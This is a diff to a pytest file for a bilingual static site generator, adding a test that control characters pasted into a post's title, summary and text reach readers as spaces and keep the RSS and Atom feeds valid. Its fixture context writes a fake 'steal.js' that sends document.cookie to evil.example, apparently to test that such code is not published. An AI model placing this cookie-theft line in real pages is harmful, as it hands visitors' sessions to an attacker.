@@ -444,6 +444,10 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
         "uk": '---\ntitle: "Ціни < 5 & «лапки»"\nsummary: "Менше < 5 & більше > 3, а не <тег"\n---\n\nТекст.\n',
         "en": '---\ntitle: "Prices < 5 & quotes"\nsummary: "Less < 5 & more > 3"\n---\n\nText.\n'})
     assert summary.is_dir()
+    write_post(root, "pasted-controls", "date: 2026-11-18\n", {  # escapes in YAML, the characters themselves in the text
+        "uk": '---\ntitle: "Зустріч\\vу громаді"\nsummary: "Підсумки\\x1b зустрічі"\n---\n\n'
+              'Абзац із Word:\x0bрядок\x0cсторінка.\n\nОстанній абзац.\n',
+        "en": '---\ntitle: "A meeting\\vin the community"\nsummary: "The meeting\\x1b in brief"\n---\n\nText.\n'})
     phone_photo(root / "docs" / "assets" / "team.jpg", (800, 600))
     (root / "docs" / "landing.html").write_text('<script src="assets/steal.js"></script>', encoding="utf-8")
     (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
@@ -584,6 +588,25 @@ def test_docs_publishes_pages_pictures_pdfs_and_the_sites_own_code_only(hostile:
 def test_a_scheduled_posts_picture_is_no_false_alarm_and_not_published(hostile: Built) -> None:
     assert not [p for p in hostile.check if "scheduled-visit" in p["file"] and p["code"] == "image-missing"]
     assert not list(hostile.site.rglob("scheduled*"))
+
+
+def test_control_characters_pasted_into_a_post_reach_readers_as_spaces(hostile: Built) -> None:
+    """Word's line break (U+000B), a PDF's page break (U+000C), a terminal's escape (U+001B) in a title, a summary and
+    a text: XML cannot carry them, and the build used to stop in the feeds with a traceback. They are spaces now, the
+    feeds parse, and hub check says on which line of the text they are (an editor's line: no break at U+000B)."""
+    control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+    page = hostile.page("news/2026/pasted-controls")
+    assert not control.search(page) and "<h1>Зустріч у громаді</h1>" in page
+    for lang, prefix in (("uk", ""), ("en", "en/")):
+        assert not control.search(hostile.feeds(lang))
+        for feed in ("feed.xml", "atom.xml"):
+            parsed = feedparser.parse(hostile.site / f"{prefix}{feed}")
+            assert not parsed.bozo, parsed.bozo_exception
+    assert "Зустріч у громаді" in "".join(entry.title for entry in feedparser.parse(hostile.site / "feed.xml").entries)
+    assert not control.search("".join(hostile.issue.values()))
+    source = hostile.root / "news/2026/pasted-controls/index.uk.md"
+    found = hostile.findings("pasted-controls/index.uk.md", "control-character")
+    assert found and {p["line"] for p in found} == {line_in(source, "Абзац із Word")}
 
 
 def test_a_summary_with_angle_brackets_is_text_in_every_feed(hostile: Built) -> None:
